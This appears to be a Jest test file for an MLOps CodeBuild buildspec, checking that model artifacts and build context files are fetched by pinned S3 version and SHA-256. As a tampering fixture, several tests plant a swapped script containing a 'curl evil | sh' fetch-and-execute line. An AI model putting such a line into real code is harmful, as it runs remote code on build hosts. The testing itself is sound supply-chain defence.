import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { formatContextFiles, MODEL_MANIFEST_FILE, renderBuildContext } from '../../../../lambda/images/core/build-context';
import { type ImageBuildVariables, imageBuildSpec } from '../../../../lambda/images/core/buildspec';
import type { ContextFile } from '../../../../lambda/images/core/model';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

interface Phase {
  readonly 'on-failure'?: string;
  readonly commands: string[];
}
const spec = imageBuildSpec() as { version: string; env: { shell: string }; phases: Record<string, Phase> };
const { pre_build: preBuild, build, post_build: postBuild } = spec.phases;
const allCommands = Object.values(spec.phases).flatMap((phase) => phase.commands);

const REPOSITORY_URI = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/mlops-images';
/** What `StartBuild` passes; typed so a variable added to the build is added here too. */
const BUILD_VARIABLES: ImageBuildVariables = {
  IMAGE_NAME: 'churn-scorer',
  IMAGE_VERSION: '2',
  IMAGE_TAG: 'churn-scorer-2',
  MODEL_DATA_URI: 's3://artifacts/images/churn-scorer/2/model.tar.gz',
  CONTEXT_BUCKET: 'artifacts',
  CONTEXT_PREFIX: 'images/churn-scorer/2/context/',
  CONTEXT_FILES: '',
};
/** The project's variables, and what CodeBuild sets in every build. */
const PROJECT_VARIABLES = { REPOSITORY_URI, REPOSITORY_NAME: 'mlops-images' };
const CODEBUILD_VARIABLES = { AWS_REGION: 'eu-west-1' };

/** Bash reads ~/.bashrc when its stdin is a socket, as Node's pipes are: give it none. */
const NO_STDIN: ['ignore', 'pipe', 'pipe'] = ['ignore', 'pipe', 'pipe'];

const commandMatching = (phase: Phase, pattern: RegExp) => {
  const matching = phase.commands.filter((command) => pattern.test(command));
  expect(matching).toHaveLength(1);
  return matching[0];
};

describe('imageBuildSpec', () => {
  it('is a version 0.2 buildspec run by bash, with the pre_build, build and post_build phases in order', () => {
    expect(spec.version).toBe('0.2');
    expect(spec.env).toEqual({ shell: 'bash', 'exported-variables': ['BASE_IMAGE_DIGEST'] });
    expect(Object.keys(spec.phases)).toEqual(['pre_build', 'build', 'post_build']);
  });

  it('stops the build when packing the models, logging in, building or pushing fails', () => {
    expect(preBuild['on-failure']).toBe('ABORT');
    expect(build['on-failure']).toBe('ABORT');
    expect(postBuild['on-failure']).toBeUndefined();
  });

  it('fails a pre_build pipeline when any command of it fails', () => {
    expect(preBuild.commands[0]).toBe('set -o pipefail');
  });

  it('downloads every object by its pinned S3 version and checks its SHA-256, never by key alone', () => {
    const fetch = commandMatching(preBuild, /^fetch\(\)/);

    expect(fetch).toContain('aws s3api get-object --bucket "$1" --key "$2" --version-id "$3" "$5"');
    expect(fetch).toContain('[ "$(sha256sum < "$5" | cut -d " " -f 1)" = "$4" ]');
    expect(fetch).toContain('return 1');
    expect(allCommands.filter((command) => /aws s3 cp[^|]*"\$?s3:|aws s3 cp[^|]*"\$uri"/.test(command))).toEqual([]);
  });

  it('assembles the context from the pinned files of CONTEXT_FILES, then downloads each model of its models.txt outside it', () => {
    const context = commandMatching(preBuild, /for file in \$CONTEXT_FILES/);
    const models = commandMatching(preBuild, /while .*read/);

    expect(context).toContain('fetch "$CONTEXT_BUCKET" "$CONTEXT_PREFIX$name" "$vid" "$sha" "/tmp/context/$name" || exit 1');
    expect(models).toMatch(new RegExp(`done < /tmp/context/${MODEL_MANIFEST_FILE}$`));
    // A failed download fails the command, not just one turn of the loop.
    expect(models).toContain('|| exit 1');
    expect(preBuild.commands.indexOf(context)).toBeLessThan(preBuild.commands.indexOf(models));
    expect(preBuild.commands).toContain('mkdir -p /tmp/context /tmp/model');
  });

  it('packs the staged models into model.tar.gz and uploads it to the model data URI', () => {
    const commands = preBuild.commands;
    const tar = commands.indexOf('tar -czf /tmp/model.tar.gz -C /tmp/model .');
    const upload = commands.indexOf('aws s3 cp --only-show-errors /tmp/model.tar.gz "$MODEL_DATA_URI"');

    expect(tar).toBeGreaterThan(commands.findIndex((command) => command.includes(MODEL_MANIFEST_FILE)));
    expect(upload).toBeGreaterThan(tar);
  });

  it('logs Docker in to the registry host of the repository', () => {
    expect(commandMatching(preBuild, /docker login/)).toBe(
      'aws ecr get-login-password --region "$AWS_REGION" | docker login --username AWS --password-stdin "${REPOSITORY_URI%%/*}"',
    );
  });

  it('builds the checked context (not the source CodeBuild downloaded) on the base image it pulled, and pushes it under its own tag', () => {
    expect(build.commands.slice(-2)).toEqual(['docker build --tag "$REPOSITORY_URI:$IMAGE_TAG" /tmp/context', 'docker push "$REPOSITORY_URI:$IMAGE_TAG"']);
  });

  it('waits for the scan of the pushed tag, tolerating a wait that times out', () => {
    expect(postBuild.commands).toHaveLength(1);
    const [wait] = postBuild.commands;

    expect(wait).toMatch(/^aws ecr wait image-scan-complete --repository-name "\$REPOSITORY_NAME" --image-id imageTag="\$IMAGE_TAG" \|\| echo "[^"]+"$/);
  });

  it("reads exactly the variables the build is given: the start's, the project's and AWS_REGION", () => {
    const assignedInCommands = allCommands.flatMap((command) => [...command.matchAll(/(?:^|[\s;])([A-Za-z_][A-Za-z0-9_]*)=/g)].map((m) => m[1]));
    const readVariables = allCommands.flatMap((command) => [...command.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1]));
    const loopVariables = allCommands.flatMap((command) => [
      ...[...command.matchAll(/read -r ((?:[A-Za-z_][A-Za-z0-9_]* ?)+)[;<]/g)].flatMap((m) => m[1].trim().split(' ')),
      ...[...command.matchAll(/for ([A-Za-z_][A-Za-z0-9_]*) in /g)].map((m) => m[1]),
    ]);
    const local = new Set([...assignedInCommands, ...loopVariables]);

    const external = [...new Set(readVariables.filter((name) => !local.has(name)))].sort();

    expect(external).toEqual(Object.keys({ ...BUILD_VARIABLES, ...PROJECT_VARIABLES, ...CODEBUILD_VARIABLES }).sort());
  });

  describe('as bash runs it', () => {
    it.each(Object.entries(spec.phases))('%s commands are valid bash, one by one and together', (_, phase) => {
      for (const script of [...phase.commands, phase.commands.join('\n')]) {
        const check = spawnSync('bash', ['-n', '-c', script], { encoding: 'utf8', stdio: NO_STDIN });
        expect(check.stderr).toBe('');
        expect(check.status).toBe(0);
      }
    });

    /**
     * Runs commands of the buildspec in the build's working directory, in one shell as CodeBuild
     * does, stopping at the first that fails, with `aws` and `docker` replaced by scripts that log
     * their arguments; `/tmp/` is moved into a scratch directory. The fake S3 holds `objects`,
     * keyed `<bucket>/<key>@<version id>`, and answers `s3api get-object` of one version only.
     */
    function runPhase(commands: readonly string[], options: { objects?: Readonly<Record<string, string>>; env?: Record<string, string> } = {}) {
      const work = mkdtempSync(path.join(tmpdir(), 'mlops-buildspec-'));
      const bin = path.join(work, 'bin');
      const context = path.join(work, 'source');
      const scratch = path.join(work, 'tmp');
      const store = path.join(work, 'store');
      for (const dir of [bin, context, scratch, store]) mkdirSync(dir);
      for (const [name, body] of Object.entries(options.objects ?? {})) {
        mkdirSync(path.dirname(path.join(store, name)), { recursive: true });
        writeFileSync(path.join(store, name), body);
      }
      const calls = path.join(work, 'calls');
      writeFileSync(calls, '');
      const fake = (name: string, body: string) => {
        // One append per call: the two ends of a pipe (aws ... | docker login) record at the same time.
        writeFileSync(path.join(bin, name), `#!/usr/bin/env bash\ncall="$(printf '%s\\x1f' "${name}" "$@")"; printf '%s\\n' "$call" >> "$CALLS"\n${body}\n`);
        chmodSync(path.join(bin, name), 0o755);
      };
      fake(
        'aws',
        [
          'if [ "$1 $2" = "s3api get-object" ]; then',
          '  shift 2',
          '  while [ $# -gt 1 ]; do case "$1" in --bucket) b="$2"; shift 2 ;; --key) k="$2"; shift 2 ;; --version-id) v="$2"; shift 2 ;; *) break ;; esac; done',
          '  [ -f "$STORE/$b/$k@$v" ] || { echo "An error occurred (NoSuchVersion) when calling the GetObject operation: s3://$b/$k $v" >&2; exit 254; }',
          '  cp "$STORE/$b/$k@$v" "$1" && echo \'{"VersionId": "\'"$v"\'"}\'',
          'fi',
          'if [ "$1 $2" = "s3 cp" ]; then cp "${@: -2:1}" "$UPLOADED"; fi',
          'if [ "$1 $2" = "ecr get-login-password" ]; then [ -z "$LOGIN_FAILS" ] || exit 255; echo registry-password; fi',
          'if [ "$1 $2" = "ecr wait" ]; then exit "${SCAN_WAIT_STATUS:-0}"; fi',
        ].join('\n'),
      );
      fake(
        'docker',
        [
          'if [ "$1" = login ]; then cat > "$LOGIN_PASSWORD"; fi',
          // What `docker inspect` of a pulled image answers: its repository digest, or nothing when it has none.
          'if [ "$1" = inspect ]; then [ -z "$NO_REPO_DIGEST" ] || { echo "template parsing error: index out of range: 0" >&2; exit 1; }; [ -z "$ODD_REPO_DIGEST" ] || { echo "python@md5:0123"; exit 0; }; echo "public.ecr.aws/docker/library/python@sha256:$(printf "b%.0s" {1..64})"; fi',
        ].join('\n'),
      );

      const script = ['set -e', ...commands.map((command) => command.replaceAll('/tmp/', `${scratch}/`))].join('\n');
      const run = spawnSync('bash', ['-c', script], {
        cwd: context,
        encoding: 'utf8',
        stdio: NO_STDIN,
        env: {
          PATH: `${bin}:${process.env.PATH}`,
          HOME: work,
          CALLS: calls,
          STORE: store,
          UPLOADED: path.join(work, 'uploaded.tar.gz'),
          LOGIN_PASSWORD: path.join(work, 'login-password'),
          ...BUILD_VARIABLES,
          ...PROJECT_VARIABLES,
          ...CODEBUILD_VARIABLES,
          ...options.env,
        },
      });
      const called = readFileSync(calls, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((line) => line.split('\x1f').slice(0, -1));
      const read = (file: string) => readFileSync(path.join(work, file), 'utf8');
      const built = (file: string) => readFileSync(path.join(scratch, 'context', file), 'utf8');
      const tarList = () =>
        spawnSync('tar', ['-tzf', path.join(work, 'uploaded.tar.gz')], { encoding: 'utf8' })
          .stdout.split('\n')
          .filter(Boolean)
          .sort();
      const tarFile = (member: string) => spawnSync('tar', ['-xzOf', path.join(work, 'uploaded.tar.gz'), member], { encoding: 'utf8' }).stdout;
      return { run, called, read, built, tarList, tarFile, cleanUp: () => rmSync(work, { recursive: true, force: true }) };
    }

    const CHURN = 'weights of churn 3';
    const FRAUD = 'weights of fraud v2 11';
    const models = [
      { name: 'churn', version: 3, artifactUri: 's3://artifacts/models/churn/3/model.tar.gz', artifactVersionId: 'Vchurn3', artifactSha256: sha256(CHURN) },
      {
        name: 'fraud.v2',
        version: 11,
        artifactUri: 's3://artifacts/models/fraud detection/11/model.joblib',
        artifactVersionId: 'Vfraud11',
        artifactSha256: sha256(FRAUD),
      },
    ];
    const contextText = {
      ...renderBuildContext(
        { imageName: 'churn-scorer', imageVersion: 2, baseImage: 'python:3.12', entryFile: 'score.py', models, environment: {}, requirements: [] },
        '',
      ),
      'score.py': 'def run(data):\n    return data\n',
    };

    /** A build as RegisterImage left it: the context written (one S3 version each) and the artifacts the registry pinned, with `swap` applied to the store afterwards. */
    function registered(swap: (objects: Record<string, string>) => void = () => undefined) {
      const files: ContextFile[] = Object.entries(contextText).map(([name, text], index) => ({ name, versionId: `ctx${index}`, sha256: sha256(text) }));
      const objects: Record<string, string> = {
        'artifacts/models/churn/3/model.tar.gz@Vchurn3': CHURN,
        'artifacts/models/fraud detection/11/model.joblib@Vfraud11': FRAUD,
      };
      for (const file of files)
        objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}${file.name}@${file.versionId}`] = contextText[file.name as keyof typeof contextText];
      swap(objects);
      return { objects, env: { CONTEXT_FILES: formatContextFiles(files) } };
    }

    it('packs every model of the manifest under <model>/<version>/, keys with spaces included, and uploads the archive', () => {
      const phase = runPhase(preBuild.commands, registered());
      try {
        expect(phase.run.stderr).toBe('');
        expect(phase.run.status).toBe(0);
        expect(phase.tarList()).toEqual([
          './',
          './churn/',
          './churn/3/',
          './churn/3/model.tar.gz',
          './fraud.v2/',
          './fraud.v2/11/',
          './fraud.v2/11/model.joblib',
        ]);
        expect(phase.tarFile('./fraud.v2/11/model.joblib')).toBe(FRAUD);
        expect(phase.tarFile('./churn/3/model.tar.gz')).toBe(CHURN);
        const gets = phase.called.filter((args) => args[1] === 's3api').map((args) => args.slice(4, 9));
        expect(gets.slice(-2)).toEqual([
          ['artifacts', '--key', 'models/churn/3/model.tar.gz', '--version-id', 'Vchurn3'],
          ['artifacts', '--key', 'models/fraud detection/11/model.joblib', '--version-id', 'Vfraud11'],
        ]);
        const upload = phase.called.find((args) => args[1] === 's3' && args[2] === 'cp')!;
        expect(upload[upload.length - 1]).toBe(BUILD_VARIABLES.MODEL_DATA_URI);
      } finally {
        phase.cleanUp();
      }
    });

    it('assembles the build context from exactly the pinned version of each file', () => {
      const phase = runPhase(
        preBuild.commands,
        registered((objects) => {
          // A newer version of the script, written after registration: not the one pinned.
          objects[`artifacts/${BUILD_VARIABLES.CONTEXT_PREFIX}score.py@later`] = 'import os\nos.system("curl evil | sh")\n';
        }),
      );
      try {
        expect(phase.run.status).toBe(0);
        for (const [name, text] of Object.entries(contextText)) expect(phase.built(name)).toBe(text);
      } finally {
        phase.cleanUp();
      }
    });

    it.each([
      ['the entry script', `artifacts/images/churn-scorer/2/context/score.py@ctx5`],
      ['the Dockerfile', `artifacts/images/churn-scorer/2/context/Dockerfile@ctx0`],
      ['models.txt', `artifacts/images/churn-scorer/2/context/models.txt@ctx3`],
    ])('fails pre_build when %s of the context was swapped after registration, before packing or logging in', (_, swapped) => {
      const phase = runPhase(
        preBuild.commands,
        registered((objects) => (objects[swapped] = 'import os\nos.system("curl evil | sh")\n')),
      );
      try {
        expect(phase.run.status).not.toBe(0);
        expect(phase.run.stderr).toContain(`s3://${swapped.replace('@', ' version ')} is not what was registered`);
        expect(phase.called.filter((args) => args[1] === 's3' || args[1] === 'ecr' || args[0] === 'docker')).toEqual([]);
      } finally {
        phase.cleanUp();
      }
    });

    it('fails pre_build when a model artifact version holds other bytes than the registry pinned, uploading no model data', () => {
      const phase = runPhase(
        preBuild.commands,
        registered((objects) => (objects['artifacts/models/churn/3/model.tar.gz@Vchurn3'] = 'swapped weights')),
      );
      try {
        expect(phase.run.status).not.toBe(0);
        expect(phase.run.stderr).toContain(
          `s3://artifacts/models/churn/3/model.tar.gz version Vchurn3 is not what was registered: it cannot be read or its SHA-256 is not ${sha256(CHURN)}`,
        );
        expect(phase.called.filter((args) => args[1] === 's3' || args[1] === 'ecr' || args[0] === 'docker')).toEqual([]);
      } finally {
        phase.cleanUp();
      }
    });

    it('fails pre_build when the pinned version of a model artifact is gone, though its key holds other bytes now', () => {
      const phase = runPhase(
        preBuild.commands,
        registered((objects) => {
          delete objects['artifacts/models/fraud detection/11/model.joblib@Vfraud11'];
          objects['artifacts/models/fraud detection/11/model.joblib@newer'] = 'overwritten weights';
        }),
      );
      try {
        expect(phase.run.status).not.toBe(0);
        expect(phase.run.stderr).toContain('NoSuchVersion');
        expect(phase.called.filter((args) => args[1] === 's3' || args[0] === 'docker')).toEqual([]);
      } finally {
        phase.cleanUp();
      }
    });

    it("logs Docker in to the registry host with the password from ECR, in the build's region", () => {
      const phase = runPhase(preBuild.commands, registered());
      try {
        expect(phase.called).toContainEqual(['aws', 'ecr', 'get-login-password', '--region', 'eu-west-1']);
        expect(phase.called).toContainEqual(['docker', 'login', '--username', 'AWS', '--password-stdin', '123456789012.dkr.ecr.eu-west-1.amazonaws.com']);
        expect(phase.read('login-password')).toBe('registry-password\n');
      } finally {
        phase.cleanUp();
      }
    });

    it('fails pre_build when the ECR password cannot be had, although docker login reads nothing', () => {
      const loginOnly = preBuild.commands.filter((command) => command === 'set -o pipefail' || command.includes('docker login'));
      const phase = runPhase(loginOnly, { env: { LOGIN_FAILS: 'yes' } });
      try {
        expect(phase.run.status).not.toBe(0);
      } finally {
        phase.cleanUp();
      }
    });

    /** The build phase after pre_build assembled a context whose Dockerfile builds on `baseImage`. */
    const buildOn = (baseImage: string) => [
      'mkdir -p /tmp/context',
      `printf '# Built by mlops-platform\\nFROM ${baseImage}\\nWORKDIR /opt/program\\n' > /tmp/context/Dockerfile`,
      ...build.commands,
    ];

    it('pulls the base image of the Dockerfile, exports its digest, then builds on it and pushes $REPOSITORY_URI:$IMAGE_TAG', () => {
      const phase = runPhase([...buildOn('public.ecr.aws/docker/library/python:3.12-slim'), 'echo "exported $BASE_IMAGE_DIGEST"']);
      try {
        expect(phase.run.status).toBe(0);
        expect(phase.called).toEqual([
          ['docker', 'pull', 'public.ecr.aws/docker/library/python:3.12-slim'],
          ['docker', 'inspect', '--format', '{{index .RepoDigests 0}}', 'public.ecr.aws/docker/library/python:3.12-slim'],
          ['docker', 'build', '--tag', `${REPOSITORY_URI}:churn-scorer-2`, expect.stringMatching(/\/tmp\/context$/)],
          ['docker', 'push', `${REPOSITORY_URI}:churn-scorer-2`],
        ]);
        expect(phase.run.stdout).toBe(`exported sha256:${'b'.repeat(64)}\n`);
      } finally {
        phase.cleanUp();
      }
    });

    it.each([
      ['has no digest', 'NO_REPO_DIGEST'],
      ['has a digest that is no sha256 one', 'ODD_REPO_DIGEST'],
    ])('fails the build phase, building nothing, when the pulled base image %s', (_, variable) => {
      const phase = runPhase(buildOn('public.ecr.aws/docker/library/python:3.12-slim'), { env: { [variable]: '1' } });
      try {
        expect(phase.run.status).not.toBe(0);
        expect(phase.called.map((args) => args.slice(0, 2))).toEqual([
          ['docker', 'pull'],
          ['docker', 'inspect'],
        ]);
      } finally {
        phase.cleanUp();
      }
    });

    it.each([0, 255])('ends post_build successfully whether the scan wait succeeds or gives up (status %i)', (status) => {
      const phase = runPhase(postBuild.commands, { env: { SCAN_WAIT_STATUS: String(status) } });
      try {
        expect(phase.run.status).toBe(0);
        expect(phase.called[0]).toEqual([
          'aws',
          'ecr',
          'wait',
          'image-scan-complete',
          '--repository-name',
          'mlops-images',
          '--image-id',
          'imageTag=churn-scorer-2',
        ]);
        expect(phase.run.stdout).toBe(status === 0 ? '' : 'The image scan did not complete within the wait; the image is recorded without findings.\n');
      } finally {
        phase.cleanUp();
      }
    });
  });
});
